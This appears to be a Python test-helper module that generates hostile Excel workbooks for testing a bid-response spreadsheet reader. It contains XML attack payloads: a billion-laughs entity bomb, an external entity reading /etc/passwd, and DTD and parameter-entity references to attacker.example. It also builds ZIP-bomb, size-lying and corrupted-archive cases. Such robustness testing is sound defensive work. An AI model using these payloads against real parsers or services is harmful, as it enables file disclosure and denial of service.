"""Building blocks for hostile workbooks: cells edited in the sheet XML, ZIP tricks, OLE2 and XML payloads.

Everything is written at test time into a temporary folder. Editing the XML of a clean
workbook (rather than going through openpyxl) keeps each case to a few milliseconds and
lets a case hold what no spreadsheet program writes: a 1,000,000-character cell, a
number with 400 digits, a formula without a cached value, a document type declaration.
"""

from __future__ import annotations

import datetime as dt
import re
import struct
import zipfile
from collections.abc import Callable, Iterable, Mapping
from decimal import Decimal
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import attrs

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OLE2_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"

# ---------------------------------------------------------------------------
# ZIP plumbing
# ---------------------------------------------------------------------------


def rewrite_zip(src: Path, dst: Path, edit: Callable[[str, bytes], bytes | None] | None = None,
                add: Mapping[str, bytes] | None = None, *, level: int | None = None) -> Path:
    """Copy the ZIP ``src`` to ``dst``, passing each member through ``edit`` (None drops it)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if edit is not None:
                data = edit(info.filename, data)
            if data is not None:
                zout.writestr(info.filename, data)
        for name, data in (add or {}).items():
            zout.writestr(name, data)
    return dst


def members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {name: zf.read(name) for name in zf.namelist()}


def sheet_parts(path: Path) -> dict[str, str]:
    """Sheet name -> the part holding it (``xl/worksheets/sheet5.xml``), as the workbook declares."""
    parts = members(path)
    workbook = parts["xl/workbook.xml"].decode("utf-8")
    rels = parts["xl/_rels/workbook.xml.rels"].decode("utf-8")
    targets = {}
    for rel in re.finditer(r"<Relationship\b[^>]*>", rels):
        rid = re.search(r'\bId="([^"]+)"', rel.group(0))
        target = re.search(r'\bTarget="([^"]+)"', rel.group(0))
        if rid and target:
            name = target.group(1).lstrip("/")
            targets[rid.group(1)] = name if name.startswith("xl/") else "xl/" + name
    out = {}
    for sheet in re.finditer(r"<(?:\w+:)?sheet\b[^>]*>", workbook):
        name = re.search(r'\bname="([^"]*)"', sheet.group(0))
        rid = re.search(r'\br:id="([^"]+)"', sheet.group(0))
        if name and rid and rid.group(1) in targets:
            out[_unescape(name.group(1))] = targets[rid.group(1)]
    return out


def _unescape(text: str) -> str:
    return text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"').replace("&apos;", "'").replace(
        "&amp;", "&")


# ---------------------------------------------------------------------------
# Cells
# ---------------------------------------------------------------------------


@attrs.frozen
class F:
    """A formula cell: ``F("1+1")`` has no cached value (as a program writes it), ``F("1+1", 2)`` has one."""

    formula: str
    cached: Any = None


@attrs.frozen
class Raw:
    """The cell's XML after ``<c r=".." s="..">``: attributes and content given as-is."""

    attributes: str
    content: str
    keep_style: bool = True


_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
_EPOCH = dt.date(1899, 12, 30)


def xml_text(text: str) -> str:
    """Text as it goes into a ``<t>``: escaped, CR kept, characters XML cannot hold as ``_xHHHH_``."""
    body = escape(text).replace("\r", "&#13;")
    return _ILLEGAL.sub(lambda m: f"_x{ord(m.group(0)):04X}_", body)


def _cell_xml(ref: str, style: str, value: Any) -> str:
    s = f' s="{style}"' if style else ""
    if value is None:
        return f'<c r="{ref}"{s}/>'
    if isinstance(value, Raw):
        return f'<c r="{ref}"{s} {value.attributes}>{value.content}</c>'
    if isinstance(value, F):
        cached = ""
        kind = ' t="str"' if isinstance(value.cached, str) else ""
        if value.cached is not None:
            cached = f"<v>{xml_text(str(value.cached))}</v>"
        return f'<c r="{ref}"{s}{kind}><f>{xml_text(value.formula)}</f>{cached}</c>'
    if isinstance(value, bool):
        return f'<c r="{ref}"{s} t="b"><v>{int(value)}</v></c>'
    if isinstance(value, (int, float, Decimal)):
        return f'<c r="{ref}"{s} t="n"><v>{value}</v></c>'
    if isinstance(value, (dt.date, dt.datetime)):
        day = value.date() if isinstance(value, dt.datetime) else value
        return f'<c r="{ref}"{s} t="n"><v>{(day - _EPOCH).days}</v></c>'
    return f'<c r="{ref}"{s} t="inlineStr"><is><t xml:space="preserve">{xml_text(str(value))}</t></is></c>'


def _column_number(letters: str) -> int:
    n = 0
    for ch in letters:
        n = n * 26 + ord(ch) - 64
    return n


def _split(ref: str) -> tuple[str, int]:
    m = re.fullmatch(r"([A-Z]+)([0-9]+)", ref)
    if not m:
        raise ValueError(ref)
    return m.group(1), int(m.group(2))


def _set_cell(xml: str, ref: str, value: Any) -> str:
    cell = re.compile(rf'<c r="{ref}"(?=[\s/>])([^>]*?)(?:/>|>.*?</c>)', re.S)
    m = cell.search(xml)
    if m:
        style = re.search(r'\bs="(\d+)"', m.group(1))
        if isinstance(value, Raw) and not value.keep_style:
            style = None
        return xml[: m.start()] + _cell_xml(ref, style.group(1) if style else "", value) + xml[m.end():]
    letters, number = _split(ref)
    new = _cell_xml(ref, "", value)
    row = re.compile(rf'<row r="{number}"(?=[\s>/])([^>]*?)(/>|>(.*?)</row>)', re.S)
    m = row.search(xml)
    if m:
        if m.group(2) == "/>":
            return xml[: m.start()] + f'<row r="{number}"{m.group(1)}>{new}</row>' + xml[m.end():]
        inner = m.group(3)
        at = len(inner)
        for other in re.finditer(r'<c r="([A-Z]+)\d+"', inner):
            if _column_number(other.group(1)) > _column_number(letters):
                at = other.start()
                break
        inner = inner[:at] + new + inner[at:]
        return xml[: m.start(3)] + inner + xml[m.end(3):]
    # a new row, in row order
    rows = list(re.finditer(r'<row r="(\d+)"', xml))
    at = next((r.start() for r in rows if int(r.group(1)) > number), None)
    element = f'<row r="{number}">{new}</row>'
    if at is None:
        if "<sheetData/>" in xml:
            return xml.replace("<sheetData/>", f"<sheetData>{element}</sheetData>", 1)
        at = xml.index("</sheetData>")
    return xml[:at] + element + xml[at:]


def set_cells(src: Path, dst: Path, values: Mapping[str, Any]) -> Path:
    """Copy the workbook ``src`` to ``dst`` with cells (``"Pricing!E4"``) replaced in the sheet XML.

    The cell keeps its style (so a date-formatted cell given a serial number reads as a date).
    """
    parts = sheet_parts(src)
    by_part: dict[str, dict[str, Any]] = {}
    for where, value in values.items():
        sheet, ref = where.rsplit("!", 1)
        by_part.setdefault(parts[sheet], {})[ref] = value

    def edit(name: str, data: bytes) -> bytes:
        if name not in by_part:
            return data
        xml = data.decode("utf-8")
        for ref, value in by_part[name].items():
            xml = _set_cell(xml, ref, value)
        return xml.encode("utf-8")

    return rewrite_zip(src, dst, edit)


def edit_part(src: Path, dst: Path, part: str, fn: Callable[[bytes], bytes]) -> Path:
    def edit(name: str, data: bytes) -> bytes:
        return fn(data) if name == part else data

    return rewrite_zip(src, dst, edit)


def edit_sheet(src: Path, dst: Path, sheet: str, fn: Callable[[bytes], bytes]) -> Path:
    return edit_part(src, dst, sheet_parts(src)[sheet], fn)


# ---------------------------------------------------------------------------
# XML payloads
# ---------------------------------------------------------------------------

BILLION_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    + "]>"
)
EXTERNAL_ENTITY = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
EXTERNAL_DTD = '<!DOCTYPE x SYSTEM "http://attacker.example/evil.dtd">'
PARAMETER_ENTITY = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>'


def with_doctype(xml: bytes, doctype: str, reference: str | None = None) -> bytes:
    """Insert ``doctype`` after the XML declaration (and ``&reference;`` into the first ``<t>``/``<v>``)."""
    text = xml.decode("utf-8")
    m = re.match(r"<\?xml[^>]*\?>\s*", text)
    at = m.end() if m else 0
    text = text[:at] + doctype + text[at:]
    if reference:
        text = re.sub(r"(<t(?: [^>]*)?>)", rf"\1&{reference};", text, count=1)
    return text.encode("utf-8")


# ---------------------------------------------------------------------------
# ZIP bombs and lying directories
# ---------------------------------------------------------------------------


def padded_member(src: Path, dst: Path, part: str, padding: int) -> Path:
    """``part`` with ``padding`` bytes of whitespace before its closing tag: compresses ~1000:1."""
    def fn(data: bytes) -> bytes:
        at = data.rindex(b"</")
        return data[:at] + b" " * padding + data[at:]

    return edit_part(src, dst, part, fn)


def patch_declared_size(src: Path, dst: Path, part: str, size: int) -> Path:
    """Copy the ZIP, with the uncompressed size of ``part`` declared as ``size`` (local header and directory)."""
    data = bytearray(src.read_bytes())
    name = part.encode("utf-8")
    patched = 0
    for sig, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (at := data.find(sig, start)) >= 0:
            name_at = at + (30 if sig == b"PK\x03\x04" else 46)
            length = struct.unpack_from("<H", data, at + (26 if sig == b"PK\x03\x04" else 28))[0]
            if bytes(data[name_at:name_at + length]) == name:
                struct.pack_into("<I", data, at + offset, size)
                patched += 1
            start = at + 4
    if patched != 2:
        raise ValueError(f"{part}: patched {patched} headers")
    dst.write_bytes(bytes(data))
    return dst


def corrupt_member(src: Path, dst: Path, part: str) -> Path:
    """Flip bytes in the middle of ``part``'s compressed data (the CRC no longer matches)."""
    data = bytearray(src.read_bytes())
    with zipfile.ZipFile(src) as zf:
        info = zf.getinfo(part)
    at = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra) + info.compress_size // 2
    for i in range(at, at + 8):
        data[i] ^= 0x55
    dst.write_bytes(bytes(data))
    return dst


def extra_members(src: Path, dst: Path, count: int) -> Path:
    return rewrite_zip(src, dst, add={f"customXml/item{i}.xml": b"<a/>" for i in range(count)}, level=1)


def extra_sheets(src: Path, dst: Path, count: int, *, with_parts: bool = True) -> Path:
    """Add ``count`` worksheets (declared in workbook.xml; with or without their parts)."""
    sheet = (f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN_NS}"><sheetData/></worksheet>'
             ).encode()
    sheet_type = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
    content_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"

    def edit(name: str, data: bytes) -> bytes:
        text = data.decode("utf-8")
        if name == "xl/workbook.xml":
            entries = "".join(f'<sheet name="X{i}" sheetId="{1000 + i}" r:id="rIdX{i}"/>' for i in range(count))
            text = re.sub(r"</(\w+:)?sheets>", lambda m: entries + m.group(0), text, count=1)
            if 'xmlns:r="' not in text:
                raise ValueError("workbook.xml without the r: namespace")
        elif name == "xl/_rels/workbook.xml.rels" and with_parts:
            rels = "".join(f'<Relationship Id="rIdX{i}" Type="{sheet_type}" Target="worksheets/x{i}.xml"/>'
                           for i in range(count))
            text = text.replace("</Relationships>", rels + "</Relationships>")
        elif name == "[Content_Types].xml" and with_parts:
            types = "".join(f'<Override PartName="/xl/worksheets/x{i}.xml" ContentType="{content_type}"/>'
                            for i in range(count))
            text = text.replace("</Types>", types + "</Types>")
        return text.encode("utf-8")

    added = {f"xl/worksheets/x{i}.xml": sheet for i in range(count)} if with_parts else {}
    return rewrite_zip(src, dst, edit, added, level=1)


def fake_ole2(*stream_names: str, padding: int = 2000) -> bytes:
    """An OLE2 compound-file header followed by directory names (enough for content sniffing)."""
    header = OLE2_MAGIC + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00" + b"\x00" * (512 - 32)
    body = b"\x00" * padding
    for name in stream_names:
        body += name.encode("utf-16-le") + b"\x00" * 64
    return header + body


def zip_of(entries: Mapping[str, bytes]) -> bytes:
    import io

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries.items():
            zf.writestr(name, data)
    return buffer.getvalue()


# ---------------------------------------------------------------------------
# Where things are in the generated workbook
# ---------------------------------------------------------------------------


def locate(path: Path) -> dict[str, str]:
    """Places in a bid-response workbook, found by their labels (like the reader does).

    Keys: ``company.<field>``, ``price.<item>``, ``quantity.<item>``, ``item.<item>``,
    ``answer.<question>``, ``comment.<question>``, ``evidence.<question>``,
    ``cert.<n>.name|number|expires`` (n from 1, the rows below the header),
    ``total`` (the item cell of the total row), ``<Sheet>.header`` (the header row number).
    """
    import openpyxl

    from rfpflow.spreadsheets.layout import (
        CERTIFICATIONS_TABLE,
        COMPANY_FIELDS,
        COMPANY_TABLE,
        PRICING_TABLE,
        QUESTIONNAIRE_TABLE,
        TOTAL_LABELS,
        label_keys,
    )

    wb = openpyxl.load_workbook(path, read_only=False)
    out: dict[str, str] = {}

    def header(sheet: str, spec: Any) -> tuple[Any, int, dict[str, int]]:
        ws = wb[sheet]
        keyed = {k: c.key for c in spec.columns for k in c.labels}
        for row in ws.iter_rows(min_row=1, max_row=40):
            columns: dict[str, int] = {}
            for cell in row:
                for key in label_keys(cell.value):
                    if key in keyed and keyed[key] not in columns:
                        columns[keyed[key]] = cell.column
                        break
            if all(c.key in columns for c in spec.columns if c.required):
                out[f"{sheet}.header"] = str(row[0].row)
                return ws, row[0].row, columns
        raise LookupError(f"no header row in {sheet}")

    def ref(sheet: str, column: int, row: int) -> str:
        from openpyxl.utils import get_column_letter

        return f"{sheet}!{get_column_letter(column)}{row}"

    ws, head, cols = header(COMPANY_TABLE.sheet, COMPANY_TABLE)
    specs = {k: spec for spec in COMPANY_FIELDS for k in spec.labels}
    for row in range(head + 1, ws.max_row + 1):
        spec = next((specs[k] for k in label_keys(ws.cell(row, cols["field"]).value) if k in specs), None)
        if spec is not None:
            out[f"company.{spec.key}"] = ref(COMPANY_TABLE.sheet, cols["value"], row)
    ws, head, cols = header(CERTIFICATIONS_TABLE.sheet, CERTIFICATIONS_TABLE)
    for n in range(1, 6):
        for key, column in cols.items():
            out[f"cert.{n}.{key}"] = ref(CERTIFICATIONS_TABLE.sheet, column, head + n)
    ws, head, cols = header(QUESTIONNAIRE_TABLE.sheet, QUESTIONNAIRE_TABLE)
    for row in range(head + 1, ws.max_row + 1):
        qid = ws.cell(row, cols["id"]).value
        if isinstance(qid, str) and qid.strip():
            for key in ("id", "answer", "comment", "evidence", "text", "mandatory"):
                if key in cols:
                    out[f"{'question' if key == 'id' else key}.{qid}"] = ref(QUESTIONNAIRE_TABLE.sheet, cols[key], row)
    ws, head, cols = header(PRICING_TABLE.sheet, PRICING_TABLE)
    for row in range(head + 1, ws.max_row + 1):
        item = ws.cell(row, cols["item_id"]).value
        if not isinstance(item, str):
            continue
        if any(k in TOTAL_LABELS for k in label_keys(item)):
            out["total"] = ref(PRICING_TABLE.sheet, cols["item_id"], row)
            break
        for key, name in (("item_id", "item"), ("unit_price", "price"), ("quantity", "quantity"),
                          ("description", "description"), ("line_total", "line_total"), ("comment", "price_comment")):
            if key in cols:
                out[f"{name}.{item}"] = ref(PRICING_TABLE.sheet, cols[key], row)
    return out


def below(place: str, rows: int = 1) -> str:
    """``Pricing!A6`` -> ``Pricing!A7``."""
    sheet, ref = place.rsplit("!", 1)
    letters, number = _split(ref)
    return f"{sheet}!{letters}{number + rows}"


def column_of(place: str, other: str) -> str:
    """The cell in ``place``'s row and ``other``'s column."""
    sheet, ref = place.rsplit("!", 1)
    _, number = _split(ref)
    letters, _ = _split(other.rsplit("!", 1)[1])
    return f"{sheet}!{letters}{number}"


def cell_only(place: str) -> str:
    return place.rsplit("!", 1)[1]


def iter_sheet_xml(path: Path) -> Iterable[tuple[str, str]]:
    """(part name, XML text) of every worksheet and the shared strings of an .xlsx file."""
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if (name.startswith("xl/worksheets/") and name.endswith(".xml")) or name == "xl/sharedStrings.xml":
                yield name, zf.read(name).decode("utf-8")
